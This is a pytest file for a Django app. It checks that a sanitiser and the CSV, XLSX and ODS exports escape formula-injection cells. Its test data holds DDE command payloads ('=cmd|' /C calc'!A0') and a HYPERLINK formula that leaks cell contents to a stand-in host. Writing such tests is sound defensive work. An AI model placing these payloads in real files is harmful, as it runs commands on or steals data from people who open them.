"""No export lets a spreadsheet run a cell as a formula ("CSV injection"): the one function
`neutralise`, then every CSV, XLSX and ODS writer of Parcours with a malicious cell in it."""

import csv
import datetime
import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse
from python_calamine import CalamineWorkbook

from parcours.core.models import AuditEvent
from parcours.core.spreadsheet_safety import neutralise
from parcours.imports.models import ImportBatch, ImportRecord
from parcours.indicators import event_export, exports
from tests.accounts.factories import AgentFactory
from tests.conftest import login_verified
from tests.indicators.factories import event
from tests.people.factories import PersonFactory

PAYLOAD = "=cmd|' /C calc'!A0"
HYPERLINK = '=HYPERLINK("http://example.invalid/?"&A1,"Cliquez")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (PAYLOAD, "'" + PAYLOAD),
        ("+33 6 12 34 56 78", "'+33 6 12 34 56 78"),
        ("-1+2", "'-1+2"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("-12", "-12"),
        ("-3,5", "-3,5"),
        ("-3.5", "-3.5"),
        ("Dupont", "Dupont"),
        ("a=b", "a=b"),
        ("", ""),
        (-5, -5),
        (-2.5, -2.5),
        (Decimal("-1"), Decimal("-1")),
        (None, None),
        (True, True),
        (datetime.date(2024, 1, 1), datetime.date(2024, 1, 1)),
    ],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected


STATS = {
    "entrants": 3,
    "label": PAYLOAD,
    "delta": -4,
    "breakdowns": {"unit": [{"key": "@A1", "label": HYPERLINK, "entrants": -2}]},
}


def test_indicators_csv():
    rows = dict(csv.reader(io.StringIO(exports.to_csv(STATS))))
    assert rows["label"] == "'" + PAYLOAD
    assert rows["delta"] == "-4"
    assert rows["breakdowns.unit.@A1.entrants"] == "-2"


def test_indicators_xlsx():
    workbook = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx(STATS)))
    values = dict(workbook["indicateurs"].iter_rows(min_row=2, values_only=True))
    assert values["label"] == "'" + PAYLOAD
    assert values["delta"] == -4
    breakdown = list(workbook["par unité"].iter_rows(min_row=2, values_only=True))[0]
    assert breakdown[:3] == ("'@A1", "'" + HYPERLINK, -2)
    formulas = [c for sheet in workbook for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []


def test_indicators_ods(tmp_path):
    path = tmp_path / "indicateurs.ods"
    path.write_bytes(exports.to_ods(STATS))
    workbook = CalamineWorkbook.from_path(str(path))
    values = dict(workbook.get_sheet_by_name("indicateurs").to_python()[1:])
    assert values["label"] == "'" + PAYLOAD
    breakdown = workbook.get_sheet_by_name("par unité").to_python()[1]
    assert breakdown[:3] == ["'@A1", "'" + HYPERLINK, -2]


@pytest.mark.django_db
def test_event_export_csv(departement):
    event(PersonFactory(), "rsa.suspension", "2024-03-01", motif=PAYLOAD, etat="-1+2")
    out = io.StringIO()
    event_export.write(datetime.date(2024, 3, 1), datetime.date(2024, 3, 31), "csv", out)
    (row,) = csv.DictReader(io.StringIO(out.getvalue()))
    assert (row["motif"], row["etat"]) == ("'" + PAYLOAD, "'-1+2")


@pytest.mark.django_db
def test_audit_export_csv(client, departement):
    login_verified(client, AgentFactory(role="administrateur"))
    AuditEvent.objects.create(agent_label=HYPERLINK, action="view", channel="web", path="@/personnes/")
    response = client.get(reverse("core:audit_export"), {"action": "view"})
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    (row,) = list(csv.reader(io.StringIO(text), delimiter=";"))[1:]
    assert row[1] == "'" + HYPERLINK
    assert row[5] == "'@/personnes/"


@pytest.mark.django_db
@pytest.mark.parametrize("kind", ["people", "cnaf"])
def test_rejected_rows_csv_of_an_import(client, departement, kind):
    agent = AgentFactory(role="administrateur")
    login_verified(client, agent)
    batch = ImportBatch.objects.create(kind=kind, file_name="f", sha256="x", status="done", created_by=agent)
    raw = {"columns": [HYPERLINK, "Prénom"], "values": [PAYLOAD, "-3"], "request_number": "+1"}
    ImportRecord.objects.create(
        batch=batch, position=0, line=2, key="@k", status="quarantined", reason="-motif", raw=raw
    )
    text = client.get(reverse("imports:rejected", args=[batch.pk])).content.decode("utf-8-sig")
    header, row = csv.reader(io.StringIO(text), delimiter=";")
    if kind == "people":
        assert header == ["'" + HYPERLINK, "Prénom", "Motif du rejet"]
        assert row == ["'" + PAYLOAD, "-3", "'-motif"]
    else:
        assert row == ["2", "'@k", "'+1", "'-motif"]
